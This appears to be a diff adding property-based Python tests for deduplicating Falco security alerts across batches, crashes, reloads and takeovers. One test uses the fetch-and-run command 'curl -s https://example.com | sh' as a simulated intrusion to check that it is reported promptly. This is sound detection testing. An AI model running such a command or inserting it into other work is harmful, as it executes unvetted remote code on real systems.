@@ -1,0 +1,206 @@
+"""The contract of deduplication, for any interleaving of groups and variants, batches, crashes, reloads, takeovers."""
+
+from __future__ import annotations
+
+import re
+from collections import defaultdict
+from collections.abc import Sequence
+from typing import Any, Final
+
+import orjson
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from streamer.model import Record
+from tests.unit.transform.course import LIMITS, Course, Event, outcomes, treated
+from tests.unit.transform.samples import FALCO, SECOND_NS
+
+_STEPS_NS: Final = [
+    round(seconds * SECOND_NS)
+    for seconds in (0, 0, 0.001, 1, 5, 5, 20, 59, 61, 71, 290, 1799, 3600, -0.2, -11, -3600)
+]
+_PLANS: Final = [
+    treated(),
+    treated(LIMITS),
+    treated({**LIMITS, "rate_per_minute": 0.01, "burst": 1}),
+    treated(window_seconds=[7, 20]),
+    treated(max_variants=0),
+    treated(max_variants=10),
+    treated(variant_fields={"syscall": ["proc.cmdline", "proc.exe"]}),
+    treated(overrides=[{"rules": ["Terminal*"], "max_variants": 1}]),
+    treated(enabled=False),
+    treated(LIMITS, max_windows=2),
+    treated(max_evidence_bytes=1500),
+]
+_DETERMINED: Final = _PLANS[:9]
+"""What memory's bounds push out depends on the batches."""
+_EVENTS: Final = st.builds(
+    Event,
+    st.sampled_from([0, 0, 0, 1]),
+    st.sampled_from(_STEPS_NS),
+    st.sampled_from("ab"),
+    st.sampled_from("stuvwxyz"),
+    st.sampled_from(["Notice", "Notice", "Debug", "Critical", "Emergency"]),
+)
+_STREAMS: Final = st.lists(_EVENTS, max_size=25)
+
+
+@st.composite
+def courses(draw: st.DrawFn) -> Course:
+    """A course of any events, to its end."""
+    course = Course(draw(st.sampled_from(_PLANS)))
+    for _ in range(draw(st.integers(1, 8))):
+        course.write(draw(_STREAMS), batches=draw(st.integers(1, 4)), crash=draw(st.booleans()))
+        happens = draw(st.sampled_from(["nothing", "crash", "reload", "silence", "reload and crash"]))
+        if "reload" in happens:
+            course.reload(draw(st.sampled_from(_PLANS)))
+        if "crash" in happens:
+            course.take_over()
+        if happens == "silence":
+            course.wait(draw(st.sampled_from([1, 61, 75, 400])))
+    course.end()
+    return course
+
+
+@settings(max_examples=150)
+@given(courses())
+def test_evidence_is_shown_in_time_and_every_counted_alert_is_in_one_summary(course: Course) -> None:
+    """The judge has held each publication to the contract; here is what remains to be said at the end."""
+    alerts = [record for record in course.records if record.topic.startswith("falco.alerts.")]
+    assert {dict(record.headers)["kind"] for record in alerts} <= {b"alert"}
+    assert len({record.id for record in course.records}) == len(course.records)
+
+
+@settings(max_examples=60)
+@given(st.lists(_STREAMS, min_size=1, max_size=4), st.data())
+def test_the_same_log_in_other_batches_gives_the_same_records(
+    parts: list[list[Event]], data: st.DataObject
+) -> None:
+    """Batches, transactions, crashes and takeovers decide nothing: it is the log that does."""
+    plan = data.draw(st.sampled_from(_DETERMINED))
+    events = [event for part in parts for event in part]
+    at_once, in_parts = Course(plan), Course(plan)
+    at_once.write(events)
+    for part in parts:
+        in_parts.write(part, batches=data.draw(st.integers(1, 5)), crash=data.draw(st.booleans()))
+        if data.draw(st.booleans()):
+            in_parts.take_over()
+    at_once.end()
+    in_parts.end()
+    assert by_target(in_parts.records) == by_target(at_once.records)
+
+
+@settings(max_examples=40)
+@given(st.lists(_STREAMS, min_size=1, max_size=3))
+def test_public_ids_are_the_same_whatever_the_key_of_the_fingerprints_is(parts: list[list[Event]]) -> None:
+    one, other = Course(key=b"1" * 16), Course(key=b"2" * 16)
+    for course in (one, other):
+        for part in parts:
+            course.write(part)
+        course.end()
+    assert public_ids(one) == public_ids(other)
+
+
+def test_each_new_variant_of_a_protected_priority_is_published_at_once() -> None:
+    """The slow intrusion of a Critical rule: one distinct command line every 5 s for 40 min."""
+    for priority in ("Critical", "Alert", "Emergency"):
+        course = Course()
+        course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", priority) for n in range(480)], batches=7)
+        assert len(course.values("alert")) == 480
+        course.end()
+
+
+def test_a_priority_that_the_settings_protect_is_treated_as_the_three_that_always_are() -> None:
+    course = Course(treated({"protected": ["emergency", "alert", "critical", "notice"]}))
+    course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", "Notice") for n in range(50)])
+    assert len(course.values("alert")) == 50
+    course.end()
+
+
+def test_exact_repeats_of_a_protected_priority_are_counted() -> None:
+    course = Course()
+    course.write([Event(0, SECOND_NS, "sh", "a", "Critical")] * 50)
+    assert len(course.values("alert")) == 1
+    course.end()
+    assert sum(value["summary"]["count"] for value in course.values("summary")) == 49
+
+
+def test_variants_beyond_the_first_ones_are_reported_within_a_minute_in_a_busy_group() -> None:
+    """Half an hour of the same, some variants, then what it was all for: the window has 30 min by then."""
+    course = Course()
+    course.write([Event(0, 20 * SECOND_NS, "sh", "health", "Notice")] * 100)
+    course.write([Event(0, SECOND_NS, "sh", f"{n}", "Notice") for n in range(10)])
+    course.write([Event(0, SECOND_NS, "sh", "curl -s https://example.com | sh", "Notice")])
+    before = len(course.records)
+    course.wait(70)
+    shown = {
+        fields["proc.cmdline"] for record in course.records[before - 1 :] for fields in fields_of(record)
+    }
+    assert "curl -s https://example.com | sh" in shown
+    course.end()
+
+
+def test_a_slow_intrusion_is_reported_while_it_goes_on() -> None:
+    """One distinct command line every 5 s for 40 min, of a priority that nothing protects."""
+    course = Course()
+    for n in range(480):
+        course.write([Event(0, 5 * SECOND_NS, "sh", f"{n}", "Notice")])  # the judge knows when each is due
+    course.end()
+
+
+def test_long_windows_hold_back_exact_repeats_alone() -> None:
+    """Three hours of the same five variants are eight windows: what was shown is not reported again each minute."""
+    course = Course()
+    noise = [Event(0, 2 * SECOND_NS, "sh", name, "Notice") for name in "abcde"]
+    course.write(noise * 6 * 180)
+    course.end()
+    found = outcomes(course.records)
+    key = FALCO.pod_name.encode()
+    assert found[key, "alert"] <= 8 * 3
+    assert found[key, "summary"] <= 8 * 2 + 2
+
+
+@pytest.mark.parametrize("priority", ["Notice", "Critical"])
+def test_a_summary_says_what_was_counted_with_typed_fields_and_true_times(priority: str) -> None:
+    course = Course()
+    course.write([Event(0, SECOND_NS, "sh", "a", priority)] * 3)
+    course.write([Event(0, SECOND_NS, "sh", name, priority) for name in "bcdde"])
+    course.end()
+    summaries = [value["summary"] for value in course.values("summary")]
+    assert summaries
+    for summary in summaries:
+        assert re.fullmatch(r"[0-9a-f]{32,64}", summary["group"])
+        for variant in summary["variants"]:
+            assert variant.keys() >= {"id", "fields", "count", "first_seen", "last_seen"}
+            assert re.fullmatch(r"[0-9a-f]{32,64}", variant["id"])
+            assert type(variant["count"]) is int
+            assert summary["first_seen"] <= variant["first_seen"] <= variant["last_seen"]
+    assert len({summary["group"] for summary in summaries}) == 1
+
+
+def by_target(records: Sequence[Record]) -> dict[tuple[bytes, bytes], list[Record]]:
+    """The alerts and the summaries of each target; when a storm is reported is up to the batches."""
+    found = defaultdict[tuple[bytes, bytes], list[Record]](list)
+    for record in records:
+        if (kind := dict(record.headers)["kind"]) in {b"alert", b"summary"}:
+            found[record.key, kind].append(record)
+    for (_, kind), mine in found.items():
+        if kind == b"summary":  # windows that end at one time have no order
+            mine.sort(key=lambda record: record.id)
+    return dict(found)
+
+
+def public_ids(course: Course) -> list[Any]:
+    """The ids of groups and variants, in the order of the summaries."""
+    return [
+        (value["summary"]["group"], [variant["id"] for variant in value["summary"]["variants"]])
+        for value in course.values("summary")
+    ]
+
+
+def fields_of(record: Record) -> list[dict[str, Any]]:
+    """The fields of each variant that a record shows."""
+    value = orjson.loads(record.value)
+    variants = value["summary"]["variants"] if "summary" in value else [{"fields": {}}]
+    return [value["output_fields"] | variant["fields"] for variant in variants]
